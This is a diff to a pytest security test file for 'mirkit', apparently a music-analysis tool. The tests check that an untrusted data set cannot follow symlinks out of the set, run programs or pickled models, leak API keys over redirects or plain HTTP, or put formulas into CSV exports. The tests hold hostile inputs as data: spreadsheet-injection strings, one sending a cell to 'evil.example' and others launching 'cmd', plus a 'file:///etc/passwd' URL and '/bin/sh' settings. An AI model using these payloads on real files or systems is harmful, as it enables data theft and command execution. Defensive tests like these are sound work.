@@ -1,19 +1,22 @@
 """A data set may come from a stranger: nothing in it is run, nothing outside it is touched, no secret gets into it."""
 
 import ast
+import csv
 import io
 import json
 import os
 import pickle
-import shutil
+import socket
 import struct
 import time
+import urllib.parse
 import zipfile
 from collections.abc import Callable
 from functools import cache
 from pathlib import Path
 from typing import Any
 
+import hypothesis
 import numpy as np
 import pytest
 
@@ -21,7 +24,10 @@ from library import make_track, write
 from mirkit import engines
 from mirkit.cli import main
 from mirkit.engines import serial
-from mirkit.store import read_info
+from mirkit.export import cells
+from mirkit.store import read_info, shown
+from mirkit.store.settings import user_settings_path
+from text_server import Play, text_server
 
 SRC = Path(__file__).resolve().parents[2] / "src" / "mirkit"
 POSIX = pytest.mark.skipif(os.name == "nt", reason="links and pipes as POSIX systems have them")
@@ -141,20 +147,131 @@ def test_tags_name_nothing_but_a_folder(tmp_path: Path, run: Callable[..., int])
 
 
 @POSIX
-def test_links_are_not_written_through(library: Path, tmp_path: Path, run: Callable[..., int]) -> None:
-    outside = tmp_path / "outside"
-    outside.mkdir()
-    track = library / "A"
-    for name in ("A.INFO", "A.BEATS_GRID", "A.ONSETS", "A.CURVES.npz", "A.PROVENANCE", "drums.flac", "bass.flac"):
-        victim = outside / name
-        shutil.copy(track / "full_mix.flac", victim) if name.endswith("flac") else victim.write_text("{}")
-        (track / name).symlink_to(victim)
-    (library / "mirkit.toml").symlink_to(outside / "mirkit.toml")
-    (outside / "mirkit.toml").write_text("")
-    before = {path: path.read_bytes() for path in outside.iterdir()}
-    assert run("run", library, "--overwrite") == 0
-    assert {path: path.read_bytes() for path in outside.iterdir()} == before
-    assert "lufs" in read_info(track / "A.INFO")
+@pytest.mark.parametrize("kind", ["INFO", "BEATS_GRID", "ONSETS", "CURVES.npz", "PROVENANCE"])
+def test_a_sidecar_that_is_a_link_out_of_the_set_is_neither_read_nor_written(
+    kind: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    outside = tmp_path / "config.json"
+    outside.write_text('{"secret": "s3cr3t"}')
+    link = library / "A" / f"A.{kind}"
+    link.symlink_to("../../config.json")
+    make_track(library / "B", seconds=2.0, seed=1)
+    for words in (("run", library), ("run", library, "--overwrite"), ("extract", library / "A", "--overwrite")):
+        assert run(*words) == 1
+        told = capsys.readouterr().err
+        assert f"{link}: a link out of the data set, to {outside}" in told
+        assert "a bug" not in told
+    run("verify", library)
+    run("stats", library, "-o", library / "stats.json")
+    run("report", library, "--out", tmp_path / "site")
+    assert "a bug" not in capsys.readouterr().err
+    assert link.is_symlink()
+    assert outside.read_text() == '{"secret": "s3cr3t"}'
+    for path in (*library.rglob("*"), *(tmp_path / "site").rglob("*")):
+        assert not path.is_file() or path.is_symlink() or b"s3cr3t" not in path.read_bytes(), path
+    assert "lufs" in read_info(library / "B" / "B.INFO"), "the other tracks are done"
+    link.unlink()
+    assert run("run", library) == 0
+
+
+@POSIX
+@pytest.mark.parametrize("leads", ["mirkit.toml", "nowhere"])
+def test_settings_that_are_a_link_out_of_the_set_are_neither_read_nor_written(
+    leads: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "mirkit.toml").write_text("[crop]\ntail = 's3cr3t'\n")
+    (library / "mirkit.toml").symlink_to(tmp_path / leads)
+    for words in (("run", library), ("init", library)):
+        assert run(*words) == 2
+        told = capsys.readouterr().err
+        assert f"{library / 'mirkit.toml'}: a link out of the data set" in told
+        assert "s3cr3t" not in told
+    assert (library / "mirkit.toml").is_symlink()
+    assert not (tmp_path / "nowhere").exists()
+
+
+@POSIX
+def test_links_within_the_set_and_of_the_users_own_sound_work(
+    tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The set is a link, a track's folder is one, mixes and stems are; sidecars lead to each other in the set."""
+    make_track(tmp_path / "music" / "One", stems=True, seconds=2.0)
+    make_track(tmp_path / "music" / "Linked", seconds=2.0, seed=1)
+    disk = tmp_path / "disk"
+    (disk / "A").mkdir(parents=True)
+    for part in ("full_mix", "drums", "bass", "other", "vocals"):
+        (disk / "A" / f"{part}.flac").symlink_to(tmp_path / "music" / "One" / f"{part}.flac")
+    (disk / "Linked").symlink_to(tmp_path / "music" / "Linked")
+    (disk / "infos").mkdir()
+    (disk / "infos" / "A.json").write_text('{"mine": 1}')
+    (disk / "A" / "A.INFO").symlink_to("../infos/A.json")
+    (tmp_path / "library").symlink_to(disk)
+    assert run("run", tmp_path / "library") == 0, capsys.readouterr().err
+    found = read_info(disk / "A" / "A.INFO")
+    assert found["mine"] == 1
+    assert "lufs" in found
+    assert "lufs" in read_info(tmp_path / "music" / "Linked" / "Linked.INFO")
+    assert (disk / "A" / "drums.flac").is_symlink()
+    assert run("verify", tmp_path / "library") == 0
+
+
+@POSIX
+def test_the_journal_is_not_written_where_a_link_leads(
+    tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    write(tmp_path / "library" / "song.flac", np.zeros((1, 44100), np.float32))
+    for target in ("profile", "nowhere"):
+        (tmp_path / "profile").write_text("# mine\n")
+        (tmp_path / "library" / ".mirkit-organize.jsonl").symlink_to(tmp_path / target)
+        assert run("organize", tmp_path / "library") == 1
+        assert "a link out of the data set" in capsys.readouterr().err
+        assert (tmp_path / "profile").read_text() == "# mine\n"
+        assert not (tmp_path / "nowhere").exists()
+        assert (tmp_path / "library" / "song.flac").is_file()
+        (tmp_path / "library" / ".mirkit-organize.jsonl").unlink()
+
+
+@POSIX
+def test_links_of_a_set_behind_a_url_are_treated_alike(
+    library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    pytest.importorskip("fsspec")
+    make_track(library / "B", seconds=2.0, seed=1)
+    secrets, logs = tmp_path / "secrets", tmp_path / "documents"
+    secrets.write_text('{"secret": "s3cr3t"}')
+    logs.mkdir()
+    for number in range(30):
+        (logs / f"{number}.jsonl").write_text("mine")
+    (library / "A" / "A.INFO").symlink_to(secrets)
+    (library / ".mirkit").mkdir()
+    (library / ".mirkit" / "log").symlink_to(logs)
+    run("run", f"file://{library}")
+    told = capsys.readouterr().err
+    assert "A.INFO: a link out of the data set" in told
+    assert "a bug" not in told
+    assert len(list(logs.iterdir())) == 30
+    assert secrets.read_text() == '{"secret": "s3cr3t"}'
+    assert (library / "A" / "A.INFO").is_symlink()
+    assert "lufs" in read_info(library / "B" / "B.INFO")
+
+
+@pytest.mark.parametrize("source", ["../../../private", "/private", "../..", "../../../../private", "../../.."])
+def test_a_clip_names_no_source_but_its_own_track(
+    source: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Its numbers would come from curves of the user's own, elsewhere."""
+    private = make_track(tmp_path / "private", seconds=4.0)
+    clip = make_track(library / "A" / "crops" / "A_001", seconds=1.0)
+    assert run("extract", private) == 0
+    cut = {"source": source, "set": "", "rate": 44100, "first": 0, "last": 44100, "length": 44100}
+    if source == "/private":
+        cut["source"] = str(private)
+    stages = {"cut": {"mirkit": "0.1.0", "stage_version": 1, "parameters": cut}}
+    (clip / "A_001.PROVENANCE").write_text(json.dumps({"stages": stages}))
+    capsys.readouterr()
+    assert run("window", clip, "--json") == 1
+    said = capsys.readouterr()
+    assert "private" not in said.out + said.err
 
 
 @POSIX
@@ -255,12 +372,249 @@ def test_curves_of_a_stranger_are_measured_anew(
     assert not (tmp_path / "trace").exists()
 
 
+#: What a stranger may write into mirkit.toml, and the option that the user would give instead.
+ADDRESSES = {
+    "texts.program": ("/bin/sh", "--program"),
+    "texts.projector": ("mmproj.gguf", "--projector"),
+    "texts.url": ("http://127.0.0.1:18999", "--url"),
+    "texts.model": ("library/x.gguf", "--model"),
+    "separation.model": ("~/net.th", "--model"),
+    "rhythm.model": ("..", "--beat-model"),
+    "drums.model": ("C:\\net.pth", "--drum-model"),
+}
+
+
+@pytest.mark.parametrize("name", ADDRESSES)
+@pytest.mark.parametrize("command", ["run", "describe", "verify", "init", "stats"])
+def test_a_data_set_names_no_program_file_or_server(
+    command: str, name: str, library: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    value, option = ADDRESSES[name]
+    section, _, key = name.partition(".")
+    (library / "mirkit.toml").write_text(f"[{section}]\n{key} = {json.dumps(value)}\n")
+    assert run(command, library, *(["--batch"] if command == "describe" else [])) == 2
+    (line,) = capsys.readouterr().err.splitlines()
+    assert line.startswith(f"mirkit: {library / 'mirkit.toml'}: {name} = {shown(value)}: a data set may")
+    variable = f"MIRKIT_{section}_{key}".upper()
+    assert line.endswith(
+        f"; put it into your own settings, {user_settings_path()}, into the environment as {variable}, or give {option}"
+    )
+    assert not (library / "A" / "A.INFO").exists()
+
+
+@POSIX
+@pytest.mark.parametrize("program", ["/bin/sh", "library/tool"])
+def test_no_program_of_a_stranger_runs(
+    program: str, library: Path, tmp_path: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """As it was: `sh -m MODEL` ran the model as a script, and an executable that came with the set was run."""
+    monkeypatch.chdir(tmp_path)
+    trace = tmp_path / "trace"
+    (library / "tool").write_text(f"#!/bin/sh\ntouch '{trace}'\n")
+    (library / "tool").chmod(0o755)
+    (library / "x.gguf").write_text(f"GGUF=1\ntouch '{trace}'\n")
+    (library / "mmproj-x.gguf").write_text("GGUF")
+    for method in ("llama", "mtmd-cli"):
+        for model in ("", 'model = "library/x.gguf"\n'):
+            settings = f'[backends]\ntexts = "{method}"\n[texts]\nprogram = "{program}"\n{model}'
+            (library / "mirkit.toml").write_text(settings)
+            for command in ("describe", "run"):
+                assert run(command, library, *(["--batch"] if command == "describe" else [])) == 2
+    monkeypatch.chdir(library)
+    assert run("describe", "A") == 2
+    assert not trace.exists()
+
+
+def test_a_file_that_is_called_like_a_model_is_not_loaded(
+    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (library / "beat_this").write_bytes(pickle.dumps(Bomb(library / "trace")))
+    (library / "mirkit.toml").write_text('[rhythm]\nmodel = "beat_this"\n')
+    assert run("beats", library / "A") == 2
+    assert "rhythm.model = beat_this: a data set may name a model" in capsys.readouterr().err
+    (library / "beat_this").unlink()
+    assert run("beats", library / "A") == 0, capsys.readouterr().err
+
+
+def test_a_data_set_sends_nothing_and_no_key(
+    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("MIRKIT_TEXTS_KEY", "sk-secret-of-user")
+    with text_server() as server:
+        (library / "mirkit.toml").write_text(f'[backends]\ntexts = "http"\n[texts]\nurl = "{server.url}"\n')
+        assert run("describe", library, "--batch") == 2
+        assert "sk-secret" not in capsys.readouterr().err
+        assert not server.requests
+        # The user's own address goes before all, and the key goes there alone.
+        (library / "mirkit.toml").write_text('[backends]\ntexts = "http"\n')
+        monkeypatch.setenv("MIRKIT_TEXTS_URL", server.url)
+        assert run("describe", library, "--batch") == 0
+        host = server.url.removeprefix("http://")
+        assert (
+            f"audio of 1 tracks is sent to http://{host}, with the key in MIRKIT_TEXTS_KEY" in capsys.readouterr().out
+        )
+        assert {headers["Authorization"] for headers in server.headers} == {"Bearer sk-secret-of-user"}
+
+
+def test_a_redirect_carries_no_key_to_another_host(
+    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("MIRKIT_TEXTS_KEY", "sk-secret-of-user")
+    with text_server() as other, text_server() as server:
+        for status in (301, 302, 303, 307, 308):
+            server.script.append(Play(status, headers={"Location": f"{other.url}/v1/chat/completions"}))
+            assert run("describe", library, "--batch", "--only", "full", "--url", server.url) == 1
+            assert f"answers {status}" in capsys.readouterr().err
+        assert not other.requests
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://192.0.2.1:8080",
+        "http://example.invalid",
+        "http://localhost.example.invalid:8080",
+        "http://127.0.0.1.example.invalid",
+        "http://[2001:db8::1]:8080",
+        "http://2130706433:8080",
+    ],
+)
+def test_plain_http_goes_to_this_machine_alone(
+    url: str,
+    library: Path,
+    run: Callable[..., int],
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setattr(socket, "create_connection", lambda *_, **__: pytest.fail("a connection was made"))
+    assert run("describe", library, "--batch", "--url", url) == 2
+    told = capsys.readouterr().err
+    assert ": not encrypted, so the network could read the sound and the key; use https, or allow" in told
+    assert str(user_settings_path()) in told
+    # A data set cannot allow it.
+    (library / "mirkit.toml").write_text(f'[texts]\nallow_http = ["{urllib.parse.urlsplit(url).hostname}"]\n')
+    assert run("describe", library, "--batch", "--url", url) == 2
+    assert "texts.allow_http" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1@example.invalid",
+        "http://@example.invalid",
+        "https://example.invalid/?x=1",
+        "https://example.invalid/#x",
+        "https://example.invalid:99999",
+        "https://[::1",
+        "file:///etc/passwd",
+        "https://example.invalid\n.evil",
+    ],
+)
+def test_an_address_is_one_host(
+    url: str, library: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run("describe", library, "--batch", "--url", url) == 2
+    assert "--url must be an address such as" in capsys.readouterr().err
+
+
+def test_the_user_may_allow_plain_http(
+    library: Path, tmp_path: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The network is not asked: the name of the host is made one of this machine."""
+    mine = tmp_path / "mine.toml"
+    mine.write_text('[texts]\nallow_http = ["Studio.example"]\n')
+    monkeypatch.setenv("MIRKIT_CONFIG", str(mine))
+    monkeypatch.setenv("no_proxy", "*")
+    with text_server() as server:
+        connect, port = socket.create_connection, int(server.url.rpartition(":")[2])
+        monkeypatch.setattr(
+            socket, "create_connection", lambda address, *more, **named: connect(("127.0.0.1", port), *more, **named)
+        )
+        assert run("describe", library, "--batch", "--url", "http://studio.example:8080") == 0
+        assert len(server.asked) == 5
+
+
+#: What a spreadsheet runs, or may run; then what it does not.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "  =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    '"=1+1',
+    "'=1+1",
+    "''=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff201",
+    "\u3000\uff1d1",
+    "\ufeff=1",
+    "\tplain",
+)
+HARMLESS = ("plain", "'tis", "a=b", "1 + 1", "", "'", "''", "AC/DC", "Track - 1", "\u4e2d=")
+
+
+@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
+def test_cells_come_back_as_they_were(text: str) -> None:
+    assert (cells.guarded(text) == text) == (text in HARMLESS)
+    assert cells.plain(cells.guarded(text)) == text
+    assert not cells.guarded(text)[:1].strip() or cells.guarded(text)[0] not in '=+-@\uff1d\uff0b\uff0d\uff20"'
+
+
+@hypothesis.given(hypothesis.strategies.text("'=+-@\t\r\n \"\uff1da", max_size=8))
+def test_any_cell_comes_back_as_it_was(text: str) -> None:
+    assert cells.plain(cells.guarded(text)) == text
+    assert cells.guarded(text).lstrip('\ufeff "')[:1] not in ("=", "+", "-", "@", "\uff1d", "\t", "\r")
+
+
+def test_a_table_holds_no_formula(
+    library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    import av
+
+    from mirkit.export import tables
+
+    for number, title in enumerate(FORMULAS[:4]):
+        (library / f"={number}").mkdir()
+        with av.open(str(library / f"={number}" / "full_mix.flac"), "w") as out:
+            out.metadata.update({"title": title, "artist": title, "album": title})
+            stream = out.add_stream("flac", rate=44100, layout="mono", format="s16")
+            noise = np.random.default_rng(number).integers(-9000, 9000, (1, 88200), dtype=np.int16)
+            frame = av.AudioFrame.from_ndarray(noise, format="s16", layout="mono")
+            frame.sample_rate = 44100
+            out.mux(stream.encode(frame))
+            out.mux(stream.encode(None))
+    assert run("run", library) == 0
+    for name, raw in (("guarded.csv", ()), ("raw.csv", ("--raw",))):
+        assert run("export", "csv", tmp_path / name, library, "--from", "tracks", "--check", *raw) == 0
+    assert run("export", "jsonl", tmp_path / "t.jsonl", library, "--from", "tracks") == 0
+    lines = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text().splitlines()]
+    assert {line["artist"] for line in lines if "artist" in line} == set(FORMULAS[:4]), "not altered"
+    with open(tmp_path / "guarded.csv", encoding="utf-8", newline="") as file:
+        written = list(csv.DictReader(file))
+    for row in written:
+        assert all(
+            not (row[name] or " ").startswith(("=", "+", "-", "@")) for name in ("from", "source", "artist", "title")
+        )
+        assert float(row["lufs"]) < 0, "numbers are no text"
+        assert row["lufs"].startswith("-")
+    for name, raw in (("guarded.csv", False), ("raw.csv", True)):
+        with open(tmp_path / name, encoding="utf-8", newline="") as file:
+            read = list(cells.read_rows(file, raw=raw))
+        assert [row["from"] for row in read] == [line["from"] for line in lines]
+        assert [row.get("artist") for row in read] == [line.get("artist") for line in lines]
+        assert [float(row["lufs"]) for row in read] == [line["lufs"] for line in lines]
+    assert "'=" not in (tmp_path / "raw.csv").read_text()
+    assert tables.csv_of([{"artist": "=1", "lufs": -7.5}], raw=True) != tables.csv_of([{"artist": "=1", "lufs": -7.5}])
+
+
 @pytest.mark.slow
-def test_settings_of_a_stranger_run_no_code(library: Path, tmp_path: Path, run: Callable[..., int]) -> None:
+def test_weights_of_a_stranger_run_no_code(library: Path, tmp_path: Path, run: Callable[..., int]) -> None:
     (library / "weights.ckpt").write_bytes(pickle.dumps(Bomb(tmp_path / "trace")))
-    settings = f'[backends]\nbeats = "beat_this"\n[rhythm]\nmodel = {json.dumps(str(library / "weights.ckpt"))}\n'
-    (library / "mirkit.toml").write_text(settings)
-    assert run("beats", library / "A") == 1
+    assert run("beats", library / "A", "--beat-model", library / "weights.ckpt") == 1
     assert not (tmp_path / "trace").exists()
 
 
